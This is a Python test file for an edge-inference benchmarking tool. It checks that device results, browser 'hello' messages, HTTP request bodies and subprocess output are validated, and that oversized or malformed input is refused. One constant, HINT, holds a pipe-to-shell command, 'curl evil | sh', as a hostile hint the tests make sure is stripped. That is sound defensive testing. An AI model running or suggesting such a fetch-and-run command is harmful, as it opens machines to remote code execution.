"""What a device, a page or a child process says is checked before it is believed."""

from __future__ import annotations

import contextlib
import http.client
import io
import json
import socket
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import numpy as np
import pytest
from tests.standins.jobs import job_of
from tests.standins.local_shell import LocalShell

from edgekit.core import machine
from edgekit.core.errors import DeviceError, EdgekitError
from edgekit.core.job import JobResult
from edgekit.core.samples import read_outputs, write_arrays
from edgekit.core.system import processes
from edgekit.core.system.processes import Finished
from edgekit.devices.local import read_answer
from edgekit.devices.remote import shell as shells
from edgekit.devices.remote.array_records import packed, unpacked
from edgekit.devices.remote.launches import result_of
from edgekit.devices.remote.shell_device import Runners, ShellDevice
from edgekit.devices.web import server as servers
from edgekit.devices.web.browser import WebDevice
from edgekit.devices.web.server import Server, Site, Work
from edgekit.runtime.portable import PYTHON_RUNNER

GOOD: dict[str, Any] = {
    "backend": "onnxruntime",
    "engine": "1.31.1",
    "provider": "cpu",
    "values": [0.001],
    "warmups": [0.002],
    "load_s": 0.1,
    "first_run_s": 0.002,
    "schema_version": 1,
}
HINT = "curl evil | sh"
WRONG: list[dict[str, Any]] = [
    {"values": [-0.001]},
    {"values": []},
    {"values": [1e300]},
    {"values": None},
    {"warmups": [-1]},
    {"load_s": -1},
    {"first_run_s": -0.5},
    {"peak_memory_bytes": -5},
    {"peak_memory_bytes": 1 << 62},
    {"energy_j": -1.0},
    {"nivcsw": -1},
    {"operators": [{"name": "a", "kind": "b", "provider": "c", "seconds": -1}]},
    {"before": {"cores": "many"}},
    {"end_to_end": {"preprocess": [1], "inference": [-1], "postprocess": [1]}},
    {"end_to_end": {"preprocess": [1], "inference": [1, 1], "postprocess": [1]}},
    {"end_to_end": {"preprocess": [], "inference": [], "postprocess": []}},
    {"end_to_end": {"preprocess": [1], "inference": [1], "postprocess": [1], "warmups": 1}},
]
LINES = [
    *(json.dumps({**GOOD, **change}) for change in WRONG),
    *(json.dumps({**GOOD, "values": [value]}) for value in (float("nan"), float("inf"))),
    *(json.dumps({name: value for name, value in GOOD.items() if name != missing}) for missing in ("values", "load_s")),
    json.dumps(GOOD).replace("0.001", "1e999"),
    "[]",
    "[" * 100_000,
    '"error"',
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
]


def test_the_good_result_is_taken() -> None:
    assert result_of("pi", json.dumps(GOOD).encode()).values == (0.001,)


@pytest.mark.parametrize("line", LINES, ids=range(len(LINES)))
def test_a_result_that_no_launch_can_have_is_an_error_of_the_device(line: str) -> None:
    with pytest.raises(DeviceError):
        result_of("pi", line.encode())
    with pytest.raises(DeviceError):
        read_answer(Finished(0, line.encode(), ""), 1.0)


def test_a_device_writes_neither_the_hint_nor_a_second_line() -> None:
    failure = {"error": "UserError", "message": f"no\nHint: {HINT}\r\n" + 100_000 * "x", "hint": HINT, "exit_code": 2}

    with pytest.raises(EdgekitError) as raised:
        result_of("pi", json.dumps(failure).encode())

    assert raised.value.hint == ""
    assert raised.value.message.startswith("On 'pi': no Hint:")
    assert len(raised.value.message) < 1000


@pytest.mark.parametrize(
    "record",
    [
        b"float32 -1 0:y\n" + bytes(16),
        b"float32 4294967296,4294967296 0:y\n" + bytes(16),
        b"float32 9223372036854775807 0:y\n" + bytes(16),
        b"object 1 0:y\n" + bytes(16),
        b"V8 1 0:y\n" + bytes(16),
        b"float32 2,-2 0:y\n" + bytes(16),
        b"float32 " + b"9" * 5000 + b" 0:y\n",
        b"float32 8 0:y\n" + bytes(16),
        b"nothing",
    ],
)
def test_outputs_that_cannot_be_are_an_error_of_the_device(record: bytes) -> None:
    with pytest.raises(DeviceError, match="damaged in transfer"):
        unpacked(record)


def test_empty_outputs_are_read_back() -> None:
    (array,) = unpacked(packed({"0:y": np.zeros((0, 4), np.float32)})).values()

    assert array.shape == (0, 4)


@pytest.mark.parametrize("keys", [["x:y"], ["-1:y"], ["2:y", "0:y"], ["0:z"], ["y"], [], ["0" * 5000 + ":y"]])
def test_outputs_of_other_inputs_or_names_are_an_error(tmp_path: Path, keys: list[str]) -> None:
    write_arrays(tmp_path / "o.npz", {key: np.zeros(1) for key in keys})

    with pytest.raises(DeviceError):
        read_outputs(tmp_path / "o.npz", 1, ["y"], DeviceError)


@pytest.mark.parametrize("text", ["nan", "inf", "-inf", "1e300", "x", "9" * 5000])
def test_a_sensor_that_shows_no_number_is_a_missing_fact(text: str) -> None:
    folder = "/sys/class/thermal/thermal_zone0"
    gpu = f"A, 1, {text}, {text}, {text}, {text}"
    texts = {
        f"{folder}/temp": text,
        f"{folder}/type": "cpu",
        "/sys/devices/system/cpu/cpufreq/policy0/scaling_cur_freq": text,
        "/proc/loadavg": text,
        "cores": text,
        "nvidia-smi": gpu,
    }

    facts = machine.facts(texts)

    assert (facts.temperature_c, facts.clock_hz, facts.cores, facts.load) == (None, None, None, None)
    assert (facts.gpus[0].memory_bytes, facts.gpus[0].clock_hz, facts.gpus[0].temperature_c) == (None, None, None)


def test_a_program_that_prints_without_end_is_stopped() -> None:
    endless = [sys.executable, "-c", "import sys\nwhile True: sys.stdout.write('x' * 65536)"]

    done = processes.run(endless, timeout_s=60, most_bytes=1 << 20)

    assert (done.is_cut, done.timed_out, len(done.out)) == (True, False, 1 << 20)


def test_errors_without_end_are_stopped_as_well() -> None:
    endless = [sys.executable, "-c", "import sys\nwhile True: sys.stderr.write('x' * 65536)"]

    done = processes.run_tied(endless, timeout_s=60, most_bytes=1 << 20)

    assert (done.is_cut, len(done.err)) == (True, 1 << 20)


@pytest.fixture
def flooding(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[str], ShellDevice]]:
    """A device whose `python3` is a script."""
    monkeypatch.setattr(shells, "LONGEST_OUTPUTS_BYTES", 1 << 20)

    with contextlib.ExitStack() as opened:

        def device(script: str) -> ShellDevice:
            (tmp_path / "bin").mkdir()
            program = tmp_path / "bin/python3"
            program.write_text(f"#!/bin/sh\n{script}\n")
            program.chmod(0o755)
            (tmp_path / "home").mkdir()
            shell = LocalShell(tmp_path / "home", python=tmp_path / "bin")
            return opened.enter_context(ShellDevice(shell, Runners(PYTHON_RUNNER, {}), timeout_s=30))

        yield device


@pytest.mark.parametrize(
    ("script", "message"),
    [
        ("head -c 3000000 /dev/zero", "printed more than"),
        ("echo '[]'", "Cannot parse"),
        (f"""echo '{json.dumps({**GOOD, "values": [-1]})}'""", "Cannot parse"),
        (
            f"""echo '{{"error": "UserError", "message": "no", "hint": "{HINT}", "exit_code": 2}}'; exit 2""",
            "On 'here'",
        ),
        ("printf 'Error: \\033[31mred\\nHint: x' >&2; exit 1", "failed while"),
    ],
)
def test_a_hostile_runner_is_an_error_without_its_hint(
    flooding: Callable[[str], ShellDevice], tmp_path: Path, script: str, message: str
) -> None:
    with pytest.raises(EdgekitError, match=message) as raised:
        flooding(script).measure(job_of("linear.onnx", tmp_path))

    assert HINT not in raised.value.hint
    assert raised.value.exit_code != 70


HELLOS = [
    *(b"[]", b"null", b"{", b"[" * 60_000, b"\xff", b'{"cores": -1}', b'{"cores": 1e9}', b'{"cores": "4"}'),
    *(b'{"user_agent": 5}', b'{"model": "' + b"x" * 2000 + b'"}'),
]


@pytest.mark.parametrize("hello", HELLOS, ids=range(len(HELLOS)))
def test_what_a_page_says_of_its_browser_is_checked(hello: bytes) -> None:
    with WebDevice("phone", {}, lambda _: None) as device:
        device._site.hello.put(hello)

        with pytest.raises(DeviceError, match="Cannot parse"):
            device.facts()


@pytest.fixture
def site(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Site, Server]]:
    site = Site({}, {})
    site.work = Work(b"{}", b"", b"", "now", has_outputs=False)
    with contextlib.closing(Server(site, "127.0.0.1", 0)) as server:
        yield site, server


@pytest.mark.parametrize(
    ("path", "length", "status"),
    [
        ("hello", str(servers._MAX_HELLO_BYTES + 1), 413),
        ("result/now", str(servers._MAX_RESULT_BYTES + 1), 413),
        ("result/now", "-1", 413),
        ("result/now", "many", 413),
        ("result/now", "9" * 5000, 413),
        ("result/now", "\u0661", 413),
        ("result/other", "2", 404),
        ("next", "2", 404),
    ],
)
def test_a_body_that_is_too_long_is_refused_before_it_is_read(
    site: tuple[Site, Server], path: str, length: str, status: int
) -> None:
    with socket.create_connection(("127.0.0.1", site[1].port), 10) as connection:
        head = f"POST /{site[0].key}/{path} HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n"
        connection.sendall(head.encode())
        reply = http.client.HTTPResponse(connection)
        reply.begin()

        assert reply.status == status
    assert site[0].results.empty()
    assert site[0].hello.empty()


def test_who_sends_nothing_or_goes_away_is_given_up_without_a_word(
    monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(servers, "_IDLE_S", 0.2)
    site = Site({}, {})
    site.work = Work(b"{}", b"", b"", "now")
    with contextlib.closing(Server(site, "127.0.0.1", 0)) as server:
        head = f"POST /{site.key}/result/now HTTP/1.1\r\nContent-Length: 100\r\n\r\nhalf".encode()
        with socket.create_connection(("127.0.0.1", server.port), 20) as slow:
            slow.sendall(head)
            assert slow.recv(1) == b""  # closed by the server
        with socket.create_connection(("127.0.0.1", server.port), 20) as reset:
            reset.sendall(head)
            reset.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
        time.sleep(0.5)

    assert site.results.empty()
    assert capfd.readouterr().err == ""


def test_hellos_do_not_pile_up() -> None:
    site = Site({}, {})

    for _ in range(1000):
        site.receive("hello", bytes(100))

    assert site.hello.qsize() <= servers._MAX_HELLOS


def test_a_result_of_a_launch_is_written_and_read_with_the_same_limits() -> None:
    found = msgspec.json.decode(json.dumps(GOOD), type=JobResult)

    assert msgspec.json.decode(msgspec.json.encode(found), type=JobResult) == found
    assert io.BytesIO(msgspec.json.encode(found)).getbuffer().nbytes < 1 << 20
